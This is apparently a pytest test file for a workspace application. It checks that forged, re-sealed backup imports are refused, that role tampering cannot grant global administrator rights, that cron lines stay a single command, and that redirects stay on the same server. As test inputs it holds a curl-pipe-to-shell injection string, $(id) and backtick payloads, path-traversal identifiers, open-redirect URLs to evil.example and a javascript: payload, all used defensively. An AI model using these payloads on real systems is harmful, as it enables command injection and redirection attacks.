"""A file that was handed over may have been made by anybody: what is taken over from it."""

from __future__ import annotations

import shlex
import sqlite3
from contextlib import closing
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from starlette.requests import Request
from starlette.responses import Response

from loop import connections
from metrics.model import Profile
from ui.door import server
from workspaces import access, backup, people
from workspaces.access import Person, Role
from workspaces.pieces import digest
from workspaces.store import NewUpload, Store


@pytest.fixture
def handed_over(tmp_path: Path) -> Path:
    """An export of one client with two revisions, made by this program."""
    store = Store.open(str(tmp_path / "theirs.sqlite"))
    client = store.create_client(Profile("Acme", ("support",)), "anna", date(2026, 1, 31))
    rows = pd.DataFrame({"function": "support", "measure": "tickets", "value": [1.0, 2.0]})
    store.save(
        client,
        1,
        "anna",
        "ingest",
        uploads=[NewUpload("a.csv", b"a")],
        frames={"observations": rows},
        documents={"assumptions": {"seed": {"value": 1.0}}},
    )
    store.keep_part(client, 2, "some/case", b"whatever its maker says follows from it")
    backup.export_client(store, client, tmp_path / "acme.attune", "anna")
    store.close()
    return tmp_path / "acme.attune"


def forged(file: Path, *statements: str) -> Path:
    """Return the file after its maker changed it and sealed it again."""
    with closing(sqlite3.connect(file)) as raw:
        raw.execute("DROP TABLE manifest")
        for statement in statements:
            raw.execute(statement)
        raw.commit()
    backup._seal(file, backup.ONE_CLIENT, "the forger's own key")
    return file


def renamed(identifier: str) -> list[str]:
    tables = ("pseudonym_key", "revision", "blob", "item", "upload", "part", "issued", "audit")
    return [
        "PRAGMA foreign_keys = OFF",
        f"UPDATE client SET id = '{identifier}'",
        *(f"UPDATE {table} SET client = '{identifier}'" for table in tables),
    ]


@pytest.fixture
def ours(tmp_path: Path):
    store = Store.open(str(tmp_path / "ours.sqlite"))
    yield store
    store.close()


def test_an_honest_file_comes_in_without_what_was_computed_elsewhere(handed_over, ours) -> None:
    client, copied = backup.import_client(ours, handed_over, "me")
    assert ours.revision(client) == 2
    assert len(ours.snapshot(client)["observations"]) == 2
    assert "part" not in copied.rows
    assert ours.part(client, 2, "some/case") is None


@pytest.mark.parametrize(
    "statements",
    [
        renamed(""),
        renamed("*"),
        renamed("../up-12345678"),
        renamed("acme-1234567g"),
        ["UPDATE client SET name = 'a' || char(10) || 'b'"],
        ["UPDATE client SET revision = 7"],
        ["DELETE FROM revision WHERE number = 1"],
        ["UPDATE item SET added = 9 WHERE kind = 'frame'"],
        ["UPDATE item SET retired = 1 WHERE kind = 'frame'"],
        ["UPDATE item SET name = 'no_such_frame' WHERE kind = 'frame'"],
        ["UPDATE item SET kind = 'code' WHERE kind = 'document' AND name = 'assumptions'"],
        ["UPDATE item SET source = '../../etc' WHERE kind = 'frame'"],
        ["UPDATE upload SET name = 'a' || char(0)"],
        ["UPDATE pseudonym_key SET value = 'no key'"],
        ["UPDATE pseudonym_key SET value = ''"],
        ["DELETE FROM pseudonym_key"],
    ],
    ids=lambda statements: statements[-1][:60],
)
def test_what_could_not_have_been_saved_here_is_refused_whole(
    handed_over, ours, statements
) -> None:
    with pytest.raises(backup.BackupRefused, match="not_from_here"):
        backup.import_client(ours, forged(handed_over, *statements), "me")
    assert ours.clients() == ()


@pytest.mark.parametrize("kind", ["frame", "document"])
def test_contents_that_cannot_be_read_are_refused(handed_over, ours, kind) -> None:
    for data in (b"", b"PAR1 nonsense PAR1", b"[" * 100_000, b'{"teams": 3}'):
        name = "observations" if kind == "frame" else "profile"
        with closing(sqlite3.connect(handed_over)) as raw:
            raw.execute("DROP TABLE manifest")
            old = raw.execute(
                "SELECT sha256 FROM item WHERE kind = ? AND name = ?", (kind, name)
            ).fetchone()[0]
            raw.execute(
                "UPDATE blob SET data = ?, sha256 = ? WHERE sha256 = ?", (data, digest(data), old)
            )
            raw.execute("UPDATE item SET sha256 = ? WHERE sha256 = ?", (digest(data), old))
            raw.commit()
        backup._seal(handed_over, backup.ONE_CLIENT, "the forger's own key")
        with pytest.raises(backup.BackupRefused, match="not_from_here"):
            backup.import_client(ours, handed_over, "me")


def test_no_client_makes_its_administrator_administrator_of_all(ours) -> None:
    """Only the person says so, whatever a client is called and whoever has a role there."""
    people.sign_in(ours, "eve@example.com", "Eve")
    client = ours.create_client(Profile("Acme", ("support",)), "anna", date(2026, 1, 31))
    people.give_role(ours, "local", client, "eve@example.com", Role.ADMINISTRATOR)
    with closing(sqlite3.connect(ours.engine.url.database)) as raw:
        raw.execute("PRAGMA foreign_keys = OFF")
        raw.execute("UPDATE role SET client = ''")
        raw.commit()
    assert not access.is_administrator(ours, Person("eve@example.com", "Eve"))
    people.appoint(ours, "local", "eve@example.com", True)
    assert access.is_administrator(ours, Person("eve@example.com", "Eve"))


@pytest.mark.parametrize(
    "name",
    ["lake", 'a"; curl evil | sh; echo "', "a'b", "$(id)", "`id`", "100 % of it", "a\\b", "--all"],
)
def test_the_line_for_cron_is_one_command_whatever_a_connection_is_called(name) -> None:
    line = connections.schedule("acme-12345678", name)
    assert "\n" not in line
    unescaped = line.replace("\\%", "%")
    assert "%" not in line.replace("\\%", "")
    words = shlex.split(unescaped)[5:]
    assert words == [
        "python",
        "cli.py",
        "pull",
        "--client",
        "acme-12345678",
        "--connection",
        name,
        "--json",
    ]


@pytest.mark.parametrize(
    ("cookie", "goes"),
    [
        ("/maturity?client=a", True),
        ("//evil.example/x", False),
        ("/\\evil.example/x", False),
        ("\\\\evil.example", False),
        ("/a\\..\\b", False),
        ("https://evil.example/", False),
        ("javascript:alert(1)", False),
    ],
)
def test_people_come_back_to_this_server_only(cookie, goes) -> None:
    asked = Request(
        {"type": "http", "headers": [(b"cookie", f"{server.RETURN}={cookie}".encode())]}
    )
    answer = Response()
    server._go_back(asked, answer)
    assert ("location" in answer.headers) is goes
